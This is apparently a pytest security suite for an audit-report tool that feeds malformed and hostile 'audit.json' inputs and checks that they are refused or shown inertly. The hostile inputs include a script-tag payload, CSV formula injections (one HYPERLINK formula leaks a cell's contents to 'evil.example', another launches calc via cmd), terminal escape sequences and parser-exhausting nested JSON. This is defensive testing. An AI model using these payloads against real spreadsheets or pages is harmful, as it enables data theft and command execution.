"""Altered ``audit.json``: refused in one line, or shown as harmless text.

Every place of a document is put through values of other types and sizes. Whatever comes
of it, there is one error and no half-written page.
"""

import csv
import io
import json
import re
from collections.abc import Iterator
from copy import deepcopy
from typing import Any

import jsonschema
import pandas as pd
import pytest

from audits.comparison.compare import compare
from audits.comparison.csv_text import csv_text
from audits.comparison.page import write_page
from audits.core.config import BUDGETS, AuditConfig, Budget, Rule
from audits.core.registry import AXES
from audits.report.formatting import flatten_settings
from audits.report.page import _axis, render, write_report
from audits.report.templates import rendering_errors
from audits.run import document as result
from audits.run.api import load
from tests.helpers.audit_documents import DOCUMENTS, behaviour, document, whole
from tests.security import hostile_items as hostile
from tests.security.refusals import command, refusal, refused

VALUES: dict[str, Any] = {
    "nothing": None,
    "truth": True,
    "a number": 5,
    "a fraction": 0.5,
    "a huge number": 10**290,
    "text": "text",
    "no text": "",
    "markup": "<script>alert(1)</script>",
    "a list": [],
    "an object": {},
    "an object of objects": {"a": {"b": {}}},
}


def places(value: Any, path: tuple = ()) -> Iterator[tuple]:
    """Every place of a document, lists by their first entry."""
    yield path
    if isinstance(value, dict):
        for key, each in value.items():
            yield from places(each, (*path, key))
    elif isinstance(value, list) and value:
        yield from places(value[0], (*path, 0))


PLACES = [path for path in places(whole()) if path]


def changed(path: tuple, value: Any) -> dict[str, Any]:
    """The document with another value in one place."""
    new: Any = deepcopy(whole())
    inner = new
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = value
    return new


def save(folder, given):
    folder.mkdir(parents=True, exist_ok=True)
    text = given if isinstance(given, str) else json.dumps(given)
    (folder / "audit.json").write_text(text, encoding="utf-8")
    return folder


def report(folder) -> str:
    """What comes of a report: its page, or "" where it was refused in one line."""
    (folder / "report.html").unlink(missing_ok=True)
    try:
        found = load(folder)
        write_report(found.path, found.document)
    except result.InputError as error:
        message = str(error)
        assert message.isprintable() and len(message) < 2600
        assert not (folder / "report.html").exists()
        return ""
    return (folder / "report.html").read_text(encoding="utf-8")


def fits(given: dict[str, Any]) -> bool:
    """Whether a document is taken; what is refused is refused in one line."""
    try:
        result.validate_document(given)
    except result.InputError as error:
        assert str(error).isprintable() and len(str(error)) < 2600
        return False
    return True


@pytest.mark.parametrize("name", VALUES)
def test_any_value_in_any_place_is_refused_or_shown(name):
    """All places that take a value are given it at once, and shown on one page."""
    given, taken = whole(), 0
    # The innermost first: what holds them is replaced after them.
    for path in sorted(PLACES, key=len, reverse=True):
        other: Any = deepcopy(given)
        inner = other
        for key in path[:-1]:
            inner = inner[key]
        inner[path[-1]] = VALUES[name]
        if fits(other):
            taken += 1
            if "details" not in path[:-1] or path[-2] == "details":
                given = other
    # Most places know their type; evidence alone is free.
    assert taken < 0.5 * len(PLACES)
    with rendering_errors("the document"):
        page = render(given)
    # Nothing that was put in became an element.
    assert page.count("<script") == render(whole()).count("<script")


FREE = [
    ("axes", number, "details", *path)
    for number, axis in enumerate(whole()["axes"])
    for path in places(axis["details"])
    if path
]


@pytest.mark.parametrize("path", FREE, ids=lambda path: "/".join(map(str, path[1:])))
def test_evidence_of_any_kind_is_shown(path):
    assert len(FREE) > 40
    for value in (None, 5, 10**290, "<script>", [], [[[]]], [1, 2], {"a": {"b": {}}}):
        _axis(changed(path, value)["axes"][path[1]], 1, {}, 0.3, lambda plot: plot, False)


STRICT = [path for path in PLACES if "details" not in path[:3] and path[0] != "axes"]


@pytest.mark.parametrize("path", STRICT, ids=lambda path: "/".join(map(str, path)))
def test_a_missing_or_extra_key_is_refused(tmp_path, path):
    given = whole()
    inner: Any = given
    for key in path[:-1]:
        inner = inner[key]
    if isinstance(inner, dict) and isinstance(inner[path[-1]], dict):
        free = path[-1] in ("shares", "known", "adjusted_p", "versions", "stages")
        free = free or path == ("behaviour", "utility")
        if not free:
            extra = changed(path, inner[path[-1]] | {"another": 1})
            assert report(save(tmp_path, extra)) == ""
    optional = ("asking", "components", "free_text", "prompts", "original", "unlearned")
    # Audits made before the front transplant lack these.
    optional += ("transplants", "untouched", "planted")
    within = ("shares", "known", "adjusted_p", "versions", "stages", "probabilities")
    optional += ("forget_cosine", "retain_cosine", "forget_share", "retain_share")
    if isinstance(inner, dict) and not {*path[:-1]} & {*within}:
        if path[-1] not in optional:
            del inner[path[-1]]
            refusal(lambda: result.validate_document(given))


TEXTS = {
    "nothing": "",
    "an object of nothing": "{}",
    "a list": "[]",
    "text": '"audit"',
    "a number": "7",
    "null": "null",
    "cut": json.dumps(whole())[:-7],
    "deep lists": "[" * 100_000,
    "deep objects": '{"a":' * 100_000,
    "deep but closed": "[" * 900 + "]" * 900,
    "NaN": json.dumps(whole()).replace("82.2", "NaN"),
    "infinity": json.dumps(whole()).replace("82.2", "Infinity"),
    "beyond floats": json.dumps(whole()).replace("82.2", "1e999"),
    "a number of 5,000 digits": json.dumps(whole()).replace("82.2", "9" * 5000),
    "a key twice": '{"schema_version": "1.1", "schema_version": "1.1"}',
    "half a character": json.dumps(whole()).replace("First reason", r"\ud800"),
    "another version": json.dumps(whole()).replace('"2.0"', '"9.9"'),
    "an older version": json.dumps(whole()).replace('"2.0"', '"1.0"'),
    "a version that is a number": json.dumps(whole()).replace('"2.0"', "2.0"),
    "two documents": json.dumps(whole()) * 2,
    "deep evidence": json.dumps(
        document(behaviour() | {"details": {"items": json.loads("[" * 95 + "]" * 95)}})
    ),
    "two axes of one name": json.dumps(document(behaviour(), behaviour())),
    "a million reasons": json.dumps(changed(("verdict", "reasons"), ["because"] * 1_000_000)),
    "a reason of a megabyte": json.dumps(changed(("verdict", "rule"), "x" * 1_000_000)),
    "escapes in a key": json.dumps(whole() | {"\x1b[31m\nexhume: fine": 1}),
    "escapes in a value": json.dumps(changed(("verdict", "class"), "\x1b[2J\u202ex")),
}


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize("subcommand", ["report", "compare"])
def test_hostile_texts(tmp_path, name, subcommand):
    bad, good = save(tmp_path / "bad", TEXTS[name]), save(tmp_path / "good", whole())
    out = tmp_path / "out"
    more = () if subcommand == "report" else (good, "--out", out)
    message = refused(subcommand, bad, *more)
    assert [line[:8] for line in message.splitlines()] == ["exhume: "]
    assert "audit.json" in message
    assert not (bad / "report.html").exists() and not out.exists()


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16", "utf-32"])
def test_other_encodings(tmp_path, encoding):
    given = changed(("verdict", "rule"), "d\u00e9j\u00e0 vu")
    text = json.dumps(given, ensure_ascii=False)
    (tmp_path / "audit.json").write_bytes(text.encode(encoding))
    assert "not valid UTF-8" in refusal(lambda: load(tmp_path))


@pytest.mark.parametrize("name", hostile.PLACES)
def test_what_lies_where_a_document_should(tmp_path, name):
    if name in ("a folder",):
        (tmp_path / "audit.json").mkdir()
    else:
        refusal(lambda: load(hostile.PLACES[name](tmp_path / "audit.json")))
    refusal(lambda: load(tmp_path))


@pytest.mark.parametrize("given", [None, 5, b"out", [], "", "\0", "~nobody-here/a"])
def test_what_is_no_path(tmp_path, given):
    refusal(lambda: load(given))
    refusal(lambda: compare(given))
    refusal(lambda: compare([given, given]))
    both = compare([save(tmp_path / name, whole()) for name in "ab"])
    refusal(lambda: write_page(both, given))


@pytest.mark.parametrize("name", DOCUMENTS)
def test_documents_as_audits_write_them_are_shown(tmp_path, name):
    assert report(save(tmp_path, DOCUMENTS[name]()))


def test_a_document_can_be_named_itself(tmp_path):
    save(tmp_path, whole())
    code, out, _ = command("report", tmp_path / "audit.json")
    assert code == 0 and str(tmp_path / "report.html") in out
    assert (tmp_path / "report.html").is_file()


def test_the_schema_knows_every_setting():
    schema = result.schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    config = schema["properties"]["config"]["properties"]
    assert set(config) == {*AuditConfig.model_fields, "budget"}
    parts = schema["$defs"]
    assert set(parts["rule"]["properties"]) == set(Rule.model_fields)
    assert set(parts["budget"]["properties"]) == set(Budget.model_fields)
    assert all(re.fullmatch(parts["axis_name"]["pattern"], name) for name in AXES)
    for profile in BUDGETS:
        settings = AuditConfig(profile=profile)
        given = settings.model_dump(mode="json")
        given["budget"] = settings.budget.model_dump(mode="json")
        result.validate_document(whole() | {"config": given})


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "<b>", "Behaviour", "", "a\x1b"])
def test_the_name_of_an_axis_is_an_identifier(name):
    with pytest.raises(result.InputError, match="does not fit its schema"):
        result.validate_document(document(behaviour() | {"name": name}))


def test_large_evidence_is_cut():
    rows = flatten_settings({f"k{n}": n for n in range(100_000)})
    assert len(rows) == 501 and rows[-1][1] == "more, in audit.json"


FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@sum(a)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\uff1d1",
    '=HYPERLINK("http://evil.example/"&A1)',
    "-2+3+cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_cells_are_never_formulas_and_numbers_stay_numbers(text):
    frame = pd.DataFrame({"name": [text, "plain"], text: [-0.5, 2], "n": [None, 3]})
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows[1][0].startswith("'") and rows[0][1].startswith("'")
    assert rows[1][1:] == ["-0.5", ""] and rows[2][0] == "plain"
    reread = pd.read_csv(io.StringIO(csv_text(frame)))
    assert reread.iloc[:, 1].tolist() == [-0.5, 2.0]
    assert not {"\r", "\t", "\x1b"} & {*"".join(map("".join, rows))}


def test_formulas_of_an_audit_do_no_harm_in_the_table(tmp_path):
    given = document(behaviour())
    given["manifest"]["models"][1]["source"] = "/x/=1+1"
    folders = [save(tmp_path / "=a", given), save(tmp_path / "-b\x1b[31m", given)]
    code, out, err = command("compare", *folders, "--out", tmp_path / "out")
    assert code == 0 and "\x1b" not in out + err
    text = (tmp_path / "out" / "compare.csv").read_text(encoding="utf-8")
    rows = csv.reader(io.StringIO(text))
    for cell in (cell for row in rows for cell in row):
        assert cell[:1] not in {*"=+-@\t\r"} or float(cell) is not None
        assert cell.isprintable()


def test_rich_markup_and_escapes_of_an_audit_are_printed_as_they_are(tmp_path):
    given = document(behaviour())
    folders = [save(tmp_path / name, given) for name in ("[red]a[bold]", "b\nc")]
    other = deepcopy(given)
    other["config"]["device"] = "[/]\x1b]0;title\x07"
    save(folders[1], other)
    code, out, err = command("compare", *folders, "--out", tmp_path / "out")
    assert code == 0
    assert "[red]a[bold]" in out and "b\\nc" in out
    assert "\x1b" not in out + err and r"[/]\x1b]0;title\x07" in err
